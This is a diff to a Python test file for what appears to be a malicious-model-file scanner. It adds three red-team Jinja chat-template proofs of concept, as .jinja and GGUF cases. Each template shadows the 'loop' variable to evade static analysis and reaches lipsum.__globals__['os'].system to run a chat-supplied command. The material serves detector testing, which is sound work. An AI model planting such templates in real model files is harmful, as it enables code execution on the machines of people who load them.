@@ -524,6 +524,7 @@ def malicious_cases() -> list[Case]:
     cases.extend(template_round12_cases())  # red team round 12 on chat templates (block at the end of this file)
     cases.extend(template_round15_cases())  # red team round 15 on chat templates (block at the end of this file)
     cases.extend(template_round16_cases())  # red team round 16 on chat templates (block at the end of this file)
+    cases.extend(template_round17_cases())  # red team round 17 on chat templates (block at the end of this file)
     return cases
 
 
@@ -1825,3 +1826,30 @@ def template_round16_cases() -> list[Case]:
                           "gguf_template", "WW-TPL-002", "model.gguf", _gguf_template(text), chat=TEMPLATE_ROUND15_CHAT))
     return cases
 # ======== END red team round 16 on chat templates =======================================================
+# ======== BEGIN red team round 17 on chat templates (helper tpl17) =====================================
+# tests/test_templates_round17.py. Each PoC binds the name ``loop`` (top-level set, with, macro parameter) so that
+# loop.previtem looked like a constant to the analysis, while Jinja still gives every for body its LoopContext:
+# the chat's parts become keys (ns.o[loop.previtem] walks lipsum.__globals__['os'].system) and g = loop.previtem
+# is called with the command. (M2, R1, R2 change the caller's messages/tools and run nothing: in the test file.)
+TEMPLATE_ROUND17_L3 = "{%- set loop = {'previtem': 'text', 'first': true} -%}\n{%- set g = none -%}\n{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set ns = namespace(o=lipsum) -%}\n{%- for part in p[1:5] -%}{%- if not loop.first -%}{%- set ns.o = ns.o[loop.previtem] -%}{%- endif -%}{%- endfor -%}\n{%- for f in [ns.o, p[4]] -%}{%- if not loop.first -%}{%- set g = loop.previtem -%}{{ g(f) }}{%- endif -%}{%- endfor -%}\n{%- endif -%}\n<|assistant|>\n"
+TEMPLATE_ROUND17_W2 = "{%- set g = none -%}\n{%- with loop = {'previtem': 'text', 'first': true} -%}\n{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set ns = namespace(o=lipsum) -%}\n{%- for part in p[1:5] -%}{%- if not loop.first -%}{%- set ns.o = ns.o[loop.previtem] -%}{%- endif -%}{%- endfor -%}\n{%- for f in [ns.o, p[4]] -%}{%- if not loop.first -%}{%- set g = loop.previtem -%}{{ g(f) }}{%- endif -%}{%- endfor -%}\n{%- endif -%}\n<|assistant|>{%- endwith -%}\n"
+TEMPLATE_ROUND17_P1 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- macro tail(p, loop, g) -%}\n{%- set ns = namespace(o=lipsum) -%}\n{%- for part in p[1:5] -%}{%- if not loop.first -%}{%- set ns.o = ns.o[loop.previtem] -%}{%- endif -%}{%- endfor -%}\n{%- for f in [ns.o, p[4]] -%}{%- if not loop.first -%}{%- set g = loop.previtem -%}{{ g(f) }}{%- endif -%}{%- endfor -%}\n{%- endmacro -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{{- tail((messages|last).content.split('|'), {'previtem': 'text', 'first': true}, none) -}}\n{%- endif -%}\n<|assistant|>\n"
+_ROUND17 = {
+    "l3": ("A", "a top-level {% set loop = {...} %}: loop.previtem taken for the bound constant"),
+    "w2": ("A", "{% with loop = {...} %} around the loops: loop.previtem taken for the bound constant"),
+    "p1": ("A", "a macro parameter named loop: loop.previtem taken for the argument"),
+}
+
+
+def template_round17_cases() -> list[Case]:
+    """Round 17 on chat templates: the code-running PoCs as .jinja and as GGUF, fired by fire.py's render."""
+    cases = []
+    for name, (cls, how) in _ROUND17.items():
+        text = globals()[f"TEMPLATE_ROUND17_{name.upper()}"].encode()
+        cases.append(Case(f"template_r17_{name}", "5", f"class {cls}: {how}, then chat-keyed hops to os.system "
+                          "(fired by that chat)", "jinja", "WW-TPL-012", "chat_template.jinja", text,
+                          chat=TEMPLATE_ROUND15_CHAT))
+        cases.append(Case(f"gguf_template_r17_{name}", "5", f"the same ({how}) as a GGUF tokenizer.chat_template",
+                          "gguf_template", "WW-TPL-012", "model.gguf", _gguf_template(text), chat=TEMPLATE_ROUND15_CHAT))
+    return cases
+# ======== END red team round 17 on chat templates =======================================================
